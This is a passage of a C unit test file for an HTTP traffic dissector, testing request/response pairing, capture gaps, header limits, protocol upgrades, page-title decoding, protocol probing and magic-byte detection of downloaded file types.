/* http: messages, bodies, pairing, evasions, gaps. */
#include <check.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/when.h"
#include "dissect_harness.h"
#include "http/http.h"
#include "http/http_command.h"
#include "http/http_auth.h"
#include "http/http_frame.h"
#include "http/http_field.h"
#include "http/http_head.h"
#include "http/http_magic.h"
#include "http/http_title.h"
#include "http_vectors.h"

enum { VECTORS = sizeof(http_vectors) / sizeof(http_vectors[0]) };

static struct harness h;

static void setup(void)
{
	harness_init(&h, &http_dissector);
}

static void teardown(void)
{
	harness_deinit(&h);
}

/* Runs of text into those of the harness. */
static void read_script(struct harness_script *s, const char *text)
{
	struct harness_run *r = NULL;

	s->n = 0;
	for (; *text; text++) {
		if (*text == Q[0] || *text == A[0]) {
			if (s->n == HARNESS_RUNS_MAX)
				abort();
			r = &s->runs[s->n++];
			*r = (struct harness_run){*text == Q[0] ? DIR_REQUEST : DIR_RESPONSE, malloc(strlen(text)), 0};
			continue;
		}
		r->bytes[r->len++] = *text == Z[0] ? 0 : (uint8_t)*text;
	}
}

static void finish(void)
{
	h.out.closed = true;
	harness_finish(&h);
	h.out.closed = false;
}

static unsigned count_of(const char *needle)
{
	return harness_count(&h, needle);
}

/* Requests that were not seen are not counted. */
static const char *const from_before[] = {"trans_depth", NULL};

static void close_flow(struct harness *flow)
{
	flow->out.closed = true;
	harness_finish(flow);
	flow->out.closed = false;
}

static const struct vector_table table = {
    .tells_behind_gaps = true, /* of an answer to what was not seen, and of one without a head */
    .rows = http_vectors,
    .n = VECTORS,
    .dissector = &http_dissector,
    .golden = "tests/golden/http",
    .hidden = "secret",
    .read = read_script,
    .finish = close_flow,
    .from_before = from_before,
};

/* A text as a run of its own. */
static void say(enum dir dir, const char *text)
{
	harness_wait(&h, NS_PER_MS);
	harness_stream(&h, dir, (const uint8_t *)text, strlen(text));
}

static void request(const char *target)
{
	char text[512];

	snprintf(text, sizeof(text), "GET %s HTTP/1.1\r\nHost: p\r\n\r\n", target);
	say(DIR_REQUEST, text);
}

/* Whose is what follows an answer: nobody's but the other dissectors' where it is known what it is. */
START_TEST(a_switch_of_protocols)
{
	static const struct {
		const char *request, *answer;
		enum hand_over whose;
	} rows[] = {
	    {"GET /ws HTTP/1.1\r\nHost: p\r\nUpgrade: websocket\r\n\r\n",
	     "HTTP/1.1 101 Switching\r\nUpgrade: WebSocket\r\n\r\n", HAND_OVER_NAMED},
	    {"GET / HTTP/1.1\r\nHost: p\r\nUpgrade: h2c\r\n\r\n",
	     "HTTP/1.1 101 Switching\r\nUpgrade: h2c\r\n\r\n", HAND_OVER_ANY},
	    {"GET / HTTP/1.1\r\nHost: p\r\nUpgrade: websocket\r\n\r\n", "HTTP/1.1 101 Switching\r\n\r\n",
	     HAND_OVER_ANY},
	    {"CONNECT p:443 HTTP/1.1\r\nHost: p\r\n\r\n", "HTTP/1.1 200 OK\r\nUpgrade: websocket\r\n\r\n",
	     HAND_OVER_ANY},
	    {"GET / HTTP/1.1\r\nHost: p\r\nUpgrade: websocket\r\n\r\n",
	     "HTTP/1.1 200 OK\r\nUpgrade: websocket\r\nContent-Length: 0\r\n\r\n", HAND_OVER_NOT},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		setup();
		say(DIR_REQUEST, rows[i].request);
		ck_assert_int_eq(h.out.hand_over, HAND_OVER_NOT);
		say(DIR_RESPONSE, rows[i].answer);
		ck_assert_msg(h.out.hand_over == rows[i].whose, "row %zu: %d", i, h.out.hand_over);
		finish();
		teardown();
	}
}
END_TEST

START_TEST(a_long_body_is_skipped_uncopied)
{
	static uint8_t zeros[65536];
	uint64_t left = UINT64_C(5) << 30;
	char head[128];

	request("/image.iso");
	snprintf(head, sizeof(head), "HTTP/1.1 200 OK\r\nContent-Length: %llu\r\n\r\n", (unsigned long long)left);
	say(DIR_RESPONSE, head);
	for (unsigned i = 0; i < 4; i++, left -= sizeof(zeros))
		harness_stream(&h, DIR_RESPONSE, zeros, sizeof(zeros));
	ck_assert_uint_eq(h.half[DIR_RESPONSE].len, 0);
	ck_assert_uint_eq(h.half[DIR_RESPONSE].skip, left - 1);
	ck_assert_str_eq(harness_lines(&h), "");
	h.half[DIR_RESPONSE].skip = 0; /* as if all but the last byte had passed */
	harness_stream(&h, DIR_RESPONSE, zeros, 1);
	ck_assert_uint_eq(count_of("\"complete\":true"), 1);
	ck_assert_uint_eq(count_of("\"length\":5368709120,"), 1);
}
END_TEST

START_TEST(a_body_cut_short_says_how_much_was_seen)
{
	static uint8_t zeros[40000];

	request("/image.iso");
	say(DIR_RESPONSE, "HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n");
	harness_stream(&h, DIR_RESPONSE, zeros, sizeof(zeros));
	http_dissector.skipped_lost(h.state, DIR_RESPONSE, 500);
	h.half[DIR_RESPONSE].skip -= 500;
	harness_stream(&h, DIR_RESPONSE, zeros, 100);
	finish();
	ck_assert_uint_eq(count_of("\"complete\":false"), 1);
	ck_assert_uint_eq(count_of("\"length\":40100,"), 1);
	ck_assert_uint_eq(count_of("\"lost_bytes\":500,"), 1);
}
END_TEST

/* After a hole inside a body of known length the next message is where it has to be, wherever the hole was. */
START_TEST(gaps_within_a_body)
{
	static uint8_t zeros[65536];
	static const size_t seen[] = {1, 10, 20000, 30000}, lost[] = {1, 100, 40000};

	for (unsigned i = 0; i < 4; i++) {
		for (unsigned j = 0; j < 3; j++) {
			harness_reset(&h);
			request("/1");
			say(DIR_RESPONSE, "HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n");
			harness_stream(&h, DIR_RESPONSE, zeros, seen[i]);
			harness_gap(&h, DIR_RESPONSE, lost[j]);
			for (size_t left = 100000 - seen[i] - lost[j], n; left > 0; left -= n) {
				n = left < sizeof(zeros) ? left : sizeof(zeros);
				harness_stream(&h, DIR_RESPONSE, zeros, n);
			}
			char expect[64];
			snprintf(expect, sizeof(expect), "\"length\":%zu,", 100000 - lost[j]);
			ck_assert_msg(count_of(expect) == 1, "%zu seen, %zu lost: %s", seen[i], lost[j],
				      harness_lines(&h));
			ck_assert_uint_eq(count_of("\"complete\":false"), 1);
			request("/2");
			say(DIR_RESPONSE, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
			ck_assert_uint_eq(count_of("\"complete\":true"), 1);
			ck_assert_uint_eq(h.anomalies, 0);
		}
	}
}
END_TEST

START_TEST(a_gap_beyond_a_body_and_what_is_found_behind)
{
	request("/1");
	request("/2");
	say(DIR_RESPONSE, "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n12345");
	harness_gap(&h, DIR_RESPONSE, 300);
	ck_assert_uint_eq(count_of("\"complete\":false"), 2);
	request("/3");
	say(DIR_RESPONSE, "the rest of another body: HTTP/1.1 200 is no start here, nor is HTTP/1.1 200 OK\n here</p>"
			  "HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\nno");
	ck_assert_uint_eq(count_of("\"complete\":true"), 1);
	ck_assert_uint_eq(count_of("\"url\":\"/3\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":404"),
			  1);
	ck_assert_uint_eq(h.events, 3);
}
END_TEST

START_TEST(a_gap_among_requests)
{
	request("/1");
	harness_gap(&h, DIR_REQUEST, 80);
	request("/3");
	say(DIR_RESPONSE, "HTTP/1.1 201 a\r\nContent-Length: 0\r\n\r\n");
	ck_assert_uint_eq(count_of("\"url\":\"/1\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":201"),
			  1);
	say(DIR_RESPONSE, "HTTP/1.1 202 b\r\nContent-Length: 0\r\n\r\n");
	ck_assert_uint_eq(count_of("\"complete\":true"), 1);
	say(DIR_RESPONSE, "HTTP/1.1 203 c\r\nContent-Length: 0\r\n\r\n");
	request("/4");
	say(DIR_RESPONSE, "HTTP/1.1 204 d\r\nContent-Length: 0\r\n\r\n");
	ck_assert_uint_eq(count_of("\"url\":\"/4\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":204"),
			  1);
	ck_assert_uint_eq(count_of("\"complete\":true"), 2);
}
END_TEST

/* Who answers what a gap took, or what was told alone because of one, answers nobody falsely. */
START_TEST(answers_behind_gaps)
{
	/* the end of the first answer is lost: the second request is told alone, and its answer comes */
	request("/1");
	request("/2");
	say(DIR_RESPONSE, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n12");
	harness_gap(&h, DIR_RESPONSE, 8);
	say(DIR_RESPONSE, "HTTP/1.1 202 b\r\nContent-Length: 0\r\n\r\n");
	ck_assert_uint_eq(count_of("response_without_request"), 0);
	/* of three requests that were lost all three answers come */
	harness_gap(&h, DIR_REQUEST, 80);
	request("/6");
	for (unsigned i = 0; i < 3; i++)
		say(DIR_RESPONSE, "HTTP/1.1 203 c\r\nContent-Length: 0\r\n\r\n");
	ck_assert_uint_eq(count_of("response_without_request"), 0);
	/* once an answer has met the only request that waited, the next needs one of its own */
	request("/7");
	say(DIR_RESPONSE, "HTTP/1.1 204 d\r\n\r\n");
	say(DIR_RESPONSE, "HTTP/1.1 205 e\r\nContent-Length: 0\r\n\r\n");
	ck_assert_uint_eq(count_of("response_without_request"), 1);
}
END_TEST

/* A head beyond the limit is told, and the message behind it is found. */
START_TEST(a_head_too_long)
{
	static char cookie[1001];

	memset(cookie, 'c', sizeof(cookie) - 1);
	say(DIR_REQUEST, "POST /long HTTP/1.1\r\nHost: p\r\nContent-Length: 3\r\n");
	for (unsigned i = 0; i < 50; i++) {
		say(DIR_REQUEST, "Cookie: ");
		say(DIR_REQUEST, cookie);
		say(DIR_REQUEST, "\r\n");
		ck_assert_uint_le(h.half[DIR_REQUEST].len, HTTP_HEAD_MAX);
	}
	say(DIR_REQUEST, "\r\nabcGET /next HTTP/1.1\r\nHost: p\r\n\r\n");
	say(DIR_RESPONSE,
	    "HTTP/1.1 431 Too Large\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
	ck_assert_uint_eq(count_of("header_too_long"), 1);
	ck_assert_uint_eq(count_of("\"type\":\"limit\""), 1);
	ck_assert_uint_eq(count_of("\"complete\":true"), 2);
	ck_assert_uint_eq(count_of("\"request_length\":3,"), 1);
	ck_assert_uint_eq(count_of("/next"), 1);
	ck_assert_uint_eq(h.anomalies, 1);
}
END_TEST

/* The end of a line behind the limit is not the end of the head. */
START_TEST(a_head_cut_at_the_end_of_a_line)
{
	static char cookie[HTTP_HEAD_MAX + 1];
	const char *begin = "POST /long HTTP/1.1\r\nHost: p\r\nContent-Length: 3\r\nCookie: ";

	memset(cookie, 'c', HTTP_HEAD_MAX - strlen(begin));
	say(DIR_REQUEST, begin);
	say(DIR_REQUEST, cookie);
	say(DIR_REQUEST, "\r\nX: y\r\n\r\nabcGET /next HTTP/1.1\r\nHost: p\r\n\r\n");
	finish();
	ck_assert_uint_eq(count_of("\"request_length\":3,"), 1);
	ck_assert_uint_eq(count_of("/next"), 1);
	ck_assert_uint_eq(h.anomalies, 1);
}
END_TEST

START_TEST(too_many_headers)
{
	say(DIR_REQUEST, "GET /many HTTP/1.1\r\nHost: p\r\n");
	for (unsigned i = 0; i < HTTP_HEADERS_MAX; i++)
		say(DIR_REQUEST, "A: b\r\n");
	say(DIR_REQUEST, "\r\n");
	finish();
	ck_assert_uint_eq(count_of("too_many_headers"), 1);
	ck_assert_uint_eq(count_of("/many"), 1);
}
END_TEST

START_TEST(too_many_trailers)
{
	request("/");
	say(DIR_RESPONSE, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n");
	for (unsigned i = 0; i <= HTTP_TRAILERS_MAX; i++)
		say(DIR_RESPONSE, "A: b\r\n");
	ck_assert_uint_eq(count_of("too_many_trailers"), 1);
	ck_assert_uint_eq(count_of("\"complete\":false"), 1);
}
END_TEST

START_TEST(the_log_grows_and_forgets_the_oldest)
{
	enum { SENT = 3000 };
	char target[32];

	for (unsigned i = 0; i < SENT; i++) {
		snprintf(target, sizeof(target), "/%u.html", i);
		request(target);
		ck_assert_uint_le(h.state_bytes, HTTP_STATE_MAX);
	}
	ck_assert_uint_gt(h.events, 0);
	ck_assert_uint_eq(count_of("\"/0.html\""), 1);
	ck_assert_uint_eq(count_of("\"/2999.html\""), 0);
	/* the responses of those forgotten are nobody else's */
	unsigned forgotten = h.events;
	for (unsigned i = 0; i < SENT; i++)
		say(DIR_RESPONSE, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
	ck_assert_uint_eq(h.events, SENT + forgotten);
	ck_assert_uint_eq(count_of("\"complete\":true"), SENT - forgotten);
	ck_assert_uint_eq(count_of("\"complete\":false"), 2 * forgotten);
	ck_assert_uint_eq(h.anomalies, 0);
}
END_TEST

/* The flow layer refuses to grow: what does not fit is told at once, alone. */
START_TEST(a_log_that_may_not_grow)
{
	static char target[3000];

	h.state_cap = HTTP_STATE_BYTES;
	for (unsigned i = 0; i < 20; i++)
		request("/short");
	memset(target, 'x', sizeof(target) - 1);
	target[0] = '/';
	say(DIR_REQUEST, "GET ");
	say(DIR_REQUEST, target);
	say(DIR_REQUEST, " HTTP/1.1\r\nHost: p\r\n\r\n");
	ck_assert_uint_eq(count_of("\"/short\""), 20);
	ck_assert_uint_eq(count_of("\"/xxx"), 1);
	for (unsigned i = 0; i < 20; i++)
		say(DIR_RESPONSE, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
	say(DIR_RESPONSE, "HTTP/1.1 302 x\r\nLocation: ");
	say(DIR_RESPONSE, target);
	say(DIR_RESPONSE, "\r\nContent-Length: 0\r\n\r\n");
	ck_assert_uint_eq(count_of("\"status\":302"), 1);
	request("/short");
	say(DIR_RESPONSE, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
	ck_assert_uint_eq(count_of("\"complete\":true"), 1);
}
END_TEST

START_TEST(a_value_cut_short_says_so)
{
	static char target[5001];

	memset(target, 'x', sizeof(target) - 1);
	target[0] = '/';
	say(DIR_REQUEST, "GET ");
	say(DIR_REQUEST, target);
	say(DIR_REQUEST, " HTTP/1.1\r\nHost: p\r\n\r\n");
	finish();
	ck_assert_uint_eq(count_of("\"url_truncated\":true"), 1);
}
END_TEST

/* One memory for log and response: late headers move what waits behind. */
START_TEST(late_headers_while_the_response_passes)
{
	say(DIR_REQUEST, "POST /x\r\n");
	say(DIR_RESPONSE, "HTTP/1.0 200 OK\r\nContent-Length: 5\r\nServer: s\r\n\r\n12");
	say(DIR_REQUEST, "Host: p\r\n\r\n");
	say(DIR_RESPONSE, "345");
	finish();
	ck_assert_uint_eq(count_of("\"hostname\":\"p\""), 1);
	ck_assert_uint_eq(count_of("\"server\":\"s\""), 1);
	ck_assert_uint_eq(count_of("\"http\":"), 1);
}
END_TEST

static const struct {
	const char *type, *body, *title;
} titles[] = {
    {"text/html; charset=utf-8", "<title>\xe7\x8a\xb6\xe6\x85\x8b</title>", "\xe7\x8a\xb6\xe6\x85\x8b"},
    {"text/html", "<TITLE lang=ja> \xe7\x8a\xb6\n \xe6\x85\x8b </TITLE>", "\xe7\x8a\xb6 \xe6\x85\x8b"},
    {"text/html; charset=Shift_JIS", "<title>\x8f\xf3\x91\xd4</title>", "\xe7\x8a\xb6\xe6\x85\x8b"},
    {"text/html; charset=\"EUC-JP\"", "<title>\xbe\xf5\xc2\xd6</title>", "\xe7\x8a\xb6\xe6\x85\x8b"},
    {"text/html", "<meta charset=\"euc-jp\"><title>\xbe\xf5\xc2\xd6</title>", "\xe7\x8a\xb6\xe6\x85\x8b"},
    {"text/html", "<meta http-equiv=Content-Type content='text/html; charset=x-sjis'><title>\x8f\xf3\x91\xd4</title>",
     "\xe7\x8a\xb6\xe6\x85\x8b"},
    {"text/html", "<title>\xbe\xf5\xc2\xd6</title>", "\xe7\x8a\xb6\xe6\x85\x8b"},
    {"text/html", "<title>\x8f\xf3\x91\xd4</title>", "\xe7\x8a\xb6\xe6\x85\x8b"},
    {"text/html", "<title>PLC \xb1\xb2\xb3 1</title>", "PLC \xef\xbd\xb1\xef\xbd\xb2\xef\xbd\xb3 1"},
    {"text/html", "<title>\x1b$B>uBV\x1b(B</title>", "\xe7\x8a\xb6\xe6\x85\x8b"},
    {"text/html; charset=iso-8859-1", "<title>Tr\xe4ger</title>", "Tr\xc3\xa4ger"},
    {"text/html; charset=koi8-r", "<title>plain</title>", "plain"},
    {"text/html", "<titl<title>a</title>", "a"},
    {"text/html", "<title></title>", NULL},
    {"text/html", "<title>never closed", NULL},
    {"text/css", "<title>a</title>", NULL},
    {"text/html\r\nContent-Encoding: gzip", "<title>a</title>", NULL},
};

START_TEST(titles_in_their_encodings)
{
	char head[256], expect[256];

	request("/");
	snprintf(head, sizeof(head), "HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %zu\r\n\r\n",
		 titles[_i].type, strlen(titles[_i].body));
	say(DIR_RESPONSE, head);
	for (const char *c = titles[_i].body; *c; c++)
		harness_stream(&h, DIR_RESPONSE, (const uint8_t *)c, 1);
	snprintf(expect, sizeof(expect), "\"title\":\"%s\"", titles[_i].title ? titles[_i].title : "");
	ck_assert_uint_eq(count_of("\"complete\":true"), 1);
	if (titles[_i].title)
		ck_assert_msg(count_of(expect) == 2, "%s\n%s", expect, harness_lines(&h)); /* and of the server */
	else if (strcmp(titles[_i].body, "<title>never closed") != 0)
		ck_assert_uint_eq(count_of("\"title\""), 0);
}
END_TEST

#define PROBED(text) text, sizeof(text) - 1

static const struct {
	const char *text;
	size_t len;
	enum probe said;
} probes[] = {
    {PROBED(""), PROBE_MORE},
    {PROBED("G"), PROBE_MORE},
    {PROBED("GET"), PROBE_MORE},
    {PROBED("GET "), PROBE_MORE},
    {PROBED("GET /"), PROBE_REQUEST},
    {PROBED("GET / HTTP/1.1\r\nHost:"), PROBE_REQUEST},
    {PROBED("\r\nGET / HTTP/1.1\r\n"), PROBE_REQUEST},
    {PROBED("GET /\r\n"), PROBE_REQUEST},
    {PROBED("OPTIONS * HTTP/1.1\r\n"), PROBE_REQUEST},
    {PROBED("GET http://plc1/ HTTP/1.1\r\n"), PROBE_REQUEST},
    {PROBED("CONNECT plc1:502 HTTP/1.1\r\n"), PROBE_REQUEST},
    {PROBED("BREW pot HTTP/1.0\r\n"), PROBE_REQUEST},
    {PROBED("M-SEARCH * HTTP/1.1\r\n"), PROBE_REQUEST},
    {PROBED("get /index.html http/1.0\r\n"), PROBE_REQUEST},
    {PROBED("OPTIONS\nHost: p\n\n"), PROBE_WEAK},
    {PROBED("GET key\r\n"), PROBE_WEAK}, /* a data base may speak so, too */
    {PROBED("HTTP/1.1 200 OK\r\n"), PROBE_RESPONSE},
    {PROBED("HTTP/1"), PROBE_RESPONSE},
    {PROBED("HTT"), PROBE_MORE},
    {PROBED("GET/ HTTP/1.1\r\n"), PROBE_NO},
    {PROBED("G\xc3T / HTTP/1.1\r\n"), PROBE_NO},
    {PROBED("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), PROBE_NO},
    {PROBED("OPTIONS sip:op@pbx SIP/2.0\r\n"), PROBE_NO},
    {PROBED("OPTIONS rtsp://cam/1 RTSP/1.0\r\n"), PROBE_NO},
    {PROBED("OPTIONS * RTSP/1.0\r\n"), PROBE_NO},
    {PROBED("REGISTER sip:pbx SIP/2.0\r\n"), PROBE_NO},
    {PROBED("OPTIONS icap://av/ ICAP/1.0\r\n"), PROBE_NO},
    {PROBED("SIP/2.0 200 OK\r\n"), PROBE_NO},
    {PROBED("RTSP/1.0 200 OK\r\n"), PROBE_NO},
    {PROBED("220 mail ESMTP\r\n"), PROBE_NO},
    {PROBED("EHLO plc1\r\n"), PROBE_NO},
    {PROBED("MAIL FROM:<a@b> SIZE=1\r\n"), PROBE_NO},
    {PROBED("USER anonymous\r\n"), PROBE_NO},
    {PROBED("a1 SEARCH ALL\r\n"), PROBE_NO},
    {PROBED("SSH-2.0-OpenSSH_9.2\r\n"), PROBE_NO},
    {PROBED("NICK op\r\n"), PROBE_NO},
    {PROBED("\x00\x01\x00\x00\x00\x06\x11\x03\x00\x00\x00\x01"), PROBE_NO},
    {PROBED("\x16\x03\x01\x00\x85\x01\x00\x00\x81"), PROBE_NO},
};

START_TEST(probing)
{
	enum probe said = http_dissector.probe(span_of(probes[_i].text, probes[_i].len), false);

	ck_assert_msg(said == probes[_i].said, "%s: said %d, expected %d", probes[_i].text, said, probes[_i].said);
}
END_TEST

static const struct {
	const char *method;
	enum function_class class;
} classes[] = {
    {"GET", CLASS_READ},    {"HEAD", CLASS_READ},     {"OPTIONS", CLASS_READ}, {"POST", CLASS_WRITE},
    {"PUT", CLASS_WRITE},   {"DELETE", CLASS_WRITE},  {"PATCH", CLASS_WRITE},  {"PROPFIND", CLASS_READ},
    {"MKCOL", CLASS_WRITE}, {"CONNECT", CLASS_ADMIN}, {"BREW", CLASS_WRITE},   {"M-SEARCH", CLASS_READ},
};

START_TEST(function_classes)
{
	char text[128];

	snprintf(text, sizeof(text), "%s / HTTP/1.1\r\nHost: p\r\n\r\n", classes[_i].method);
	say(DIR_REQUEST, text);
	finish();
	ck_assert_int_eq(h.last_class, classes[_i].class);
	harness_reset(&h);
	say(DIR_RESPONSE, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
	ck_assert_int_eq(h.last_class, CLASS_NONE);
}
END_TEST

static const struct {
	const char *bytes;
	size_t len;
	enum http_mime mime;
	const char *name;
	bool runs;
} bodies[] = {
    {PROBED("MZ\x90"), HTTP_MIME_PE, "x.txt", true},
    {PROBED("\x7f"
	    "ELF\x01"),
     HTTP_MIME_ELF, "", true},
    {PROBED("\xcf\xfa\xed\xfe"), HTTP_MIME_MACHO, "", true},
    {PROBED("\xca\xfe\xba\xbe"), HTTP_MIME_JAVA, "", true},
    {PROBED("#!/bin/sh\n"), HTTP_MIME_SCRIPT, "", true},
    {PROBED("Write-Host 1\r\n"), HTTP_MIME_TEXT, "a.PS1", true},
    {PROBED("@echo off\r\n"), HTTP_MIME_TEXT, "a.bat", true},
    {PROBED("function a() {}\n"), HTTP_MIME_TEXT, "a.js", false},
    {PROBED("words\n"), HTTP_MIME_TEXT, "a.txt", false},
    {PROBED("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), HTTP_MIME_OLE, "setup.msi", true},
    {PROBED("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), HTTP_MIME_OLE, "list.xls", false},
    {PROBED("PK\x03\x04"), HTTP_MIME_ZIP, "a.jar", true},
    {PROBED("PK\x05\x06"), HTTP_MIME_ZIP, "a.zip", false},
    {PROBED("\x1f\x8b\x08"), HTTP_MIME_GZIP, "", false},
    {PROBED("BZh9"), HTTP_MIME_BZIP2, "", false},
    {PROBED("\xfd"
	    "7zXZ\0"),
     HTTP_MIME_XZ, "", false},
    {PROBED("7z\xbc\xaf\x27\x1c"), HTTP_MIME_7Z, "", false},
    {PROBED("Rar!\x1a\x07\0"), HTTP_MIME_RAR, "", false},
    {PROBED("MSCF\0"), HTTP_MIME_CAB, "", false},
    {PROBED("\x28\xb5\x2f\xfd"), HTTP_MIME_ZSTD, "", false},
    {PROBED("%PDF-1.7"), HTTP_MIME_PDF, "", false},
    {PROBED("{\\rtf1"), HTTP_MIME_RTF, "", false},
    {PROBED("\x27\x05\x19\x56"), HTTP_MIME_UIMAGE, "", false},
    {PROBED("hsqs"), HTTP_MIME_SQUASHFS, "", false},
    {PROBED("\x89PNG\r\n\x1a\n"), HTTP_MIME_PNG, "", false},
    {PROBED("\xff\xd8\xff\xe0"), HTTP_MIME_JPEG, "", false},
    {PROBED("GIF89a"), HTTP_MIME_GIF, "", false},
    {PROBED("BM\x01"), HTTP_MIME_BMP, "", false},
    {PROBED("\0\0\1\0\1\0"), HTTP_MIME_ICO, "", false},
    {PROBED("RIFF\1\2\3\4WEBP"), HTTP_MIME_WEBP, "", false},
    {PROBED("RIFF\1\2\3\4WAVE"), HTTP_MIME_WAV, "", false},
    {PROBED("\0\0\0\x18"
	    "ftypmp42"),
     HTTP_MIME_MP4, "", false},
    {PROBED("wOF2"), HTTP_MIME_FONT, "", false},
    {PROBED("\xef\xbb\xbf <!DOCTYPE HTML>"), HTTP_MIME_HTML, "", false},
    {PROBED("<?xml version='1.0'?><html>"), HTTP_MIME_HTML, "", false},
    {PROBED("<?xml version='1.0'?><svg>"), HTTP_MIME_SVG, "", false},
    {PROBED("<?xml version='1.0'?><a>"), HTTP_MIME_XML, "", false},
    {PROBED(" {\"a\":1}"), HTTP_MIME_JSON, "", false},
    {PROBED("a=1&b=%20"), HTTP_MIME_FORM, "", false},
    {PROBED("\x01\x02\x03"), HTTP_MIME_BINARY, "", false},
    {PROBED(""), HTTP_MIME_NONE, "", false},
};

START_TEST(bodies_by_their_first_bytes)
{
	enum http_mime mime = http_magic(span_of(bodies[_i].bytes, bodies[_i].len));

	ck_assert_msg(mime == bodies[_i].mime, "row %d: %d", _i, mime);
	ck_assert_msg(http_is_executable(mime, span_str(bodies[_i].name)) == bodies[_i].runs, "row %d", _i);
	ck_assert(mime == HTTP_MIME_NONE || enum_token(&http_mime_names, mime));
}
END_TEST

START_TEST(a_tar_and_an_encoded_text)
{
	uint8_t tar[512] = {'f', 'w'};
	struct span name, content;

	memcpy(tar + 257, "ustar", 5);
	ck_assert_int_eq(http_magic(span_of(tar, sizeof(tar))), HTTP_MIME_TAR);
	ck_assert(!http_multipart_file(span_str("--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--B--"),
				       &name, &content));
	ck_assert(http_multipart_file(span_str("--B\r\nContent-Disposition: form-data; name=a\r\n\r\nb\r\n--B\r\n"
					       "content-disposition: form-data; filename=c.bin\r\n\r\nMZ"),
				      &name, &content));
	ck_assert(span_eq(name, span_str("c.bin")) && span_eq(content, span_str("MZ")));
}
END_TEST

/* Every byte at every place of words of all lengths, beside the letter that it may be and one that it may not. */
START_TEST(words_are_the_same_but_for_case)
{
	enum { MOST = 20 };
	static const char lower[MOST + 1] = "transfer-encodingxyz";
	uint8_t text[MOST];

	for (size_t n = 1; n <= MOST; n++) {
		for (size_t at = 0; at < n; at++) {
			memcpy(text, lower, n);
			for (unsigned c = 0; c < 256; c++) {
				bool same = c == (uint8_t)lower[at] ||
					    (c >= 'A' && c <= 'Z' && c + ('a' - 'A') == (uint8_t)lower[at]);
				text[at] = (uint8_t)c;
				ck_assert_msg(http_same(text, lower, n) == same, "%u at %zu of %zu", c, at, n);
			}
		}
	}
}
END_TEST

START_TEST(tokens_are_of_these_characters)
{
	for (unsigned c = 1; c < 256; c++) {
		bool said = (c >= '0' && c <= '9') || (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') ||
			    (c < 128 && strchr("!#$%&'*+-.^_`|~", (int)c));
		ck_assert_msg(http_is_tchar((uint8_t)c) == said, "%u", c);
	}
	ck_assert(!http_is_tchar(0));
}
END_TEST

START_TEST(an_odd_byte_anywhere_makes_no_text)
{
	static const char odd[] = "\x01\x08\x0e\x1f\x7f";
	char text[48];

	memset(text, 'a', sizeof(text));
	for (size_t at = 0; at < sizeof(text); at++) {
		for (const char *c = odd; *c; c++) {
			text[at] = *c;
			ck_assert_int_eq(http_magic(span_of(text, sizeof(text))), HTTP_MIME_BINARY);
		}
		text[at] = "\t\n\r\x1b\xe3"[at % 5];
		ck_assert_int_eq(http_magic(span_of(text, sizeof(text))), HTTP_MIME_TEXT);
	}
}
END_TEST

/* Bytes that end as a head does have a head in them: all there are of six bytes, and shorter. */
START_TEST(what_ends_as_a_head_has_one)
{
	enum { MOST = 6, KINDS = 3 };
	char text[MOST];
	unsigned ending = 0;

	for (unsigned n = 0, all = 1; n <= MOST; n++, all *= KINDS) {
		for (unsigned i = 0; i < all; i++) {
			for (unsigned at = 0, rest = i; at < n; at++, rest /= KINDS)
				text[at] = "\r\na"[rest % KINDS];
			if (http_ends_head(span_of(text, n)))
				ck_assert_uint_gt(http_head_len(span_of(text, n)), 0);
			ending += http_ends_head(span_of(text, n));
		}
	}
	ck_assert_uint_gt(ending, 100);
}
END_TEST

static const struct {
	const char *url, *file;
} url_files[] = {
    {"/a/b.bin", "b.bin"}, {"/a/b.bin?c=/d.e", "b.bin"}, {"/a/b", ""}, {"/", ""}, {"", ""}, {"/.htaccess", ""},
    {"/a.b/", ""},
};

START_TEST(files_named_by_urls)
{
	for (unsigned i = 0; i < sizeof(url_files) / sizeof(url_files[0]); i++)
		ck_assert_msg(span_eq(http_url_file(span_str(url_files[i].url)), span_str(url_files[i].file)), "%s",
			      url_files[i].url);
}
END_TEST

/* SSDP: each datagram is a message, whatever its direction. */
START_TEST(messages_in_datagrams)
{
	h.out.at.ip_proto = IPPROTO_UDP;
	say(DIR_REQUEST, "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\n\r\n");
	say(DIR_REQUEST, "NOTIFY * HTTP/1.1\r\nHost: 239.255.255.250:1900\r\nContent-Length: 4\r\n\r\nbody");
	say(DIR_RESPONSE, "HTTP/1.1 200 OK\r\nServer: plc UPnP/1.1\r\n\r\n");
	say(DIR_RESPONSE, "HTTP/1.1 200 OK\r\nServer: plc UPnP/1.1\r\n\r\n");
	ck_assert_uint_eq(h.counters[0], 2);
	ck_assert_uint_eq(h.counters[1], 2);
	ck_assert_uint_eq(count_of("\"http_method\":\"M-SEARCH\""), 1);
	ck_assert_uint_eq(count_of("\"http_method\":\"NOTIFY\""), 1);
	ck_assert_uint_eq(count_of("\"server\":\"plc UPnP/1.1\""), 2);
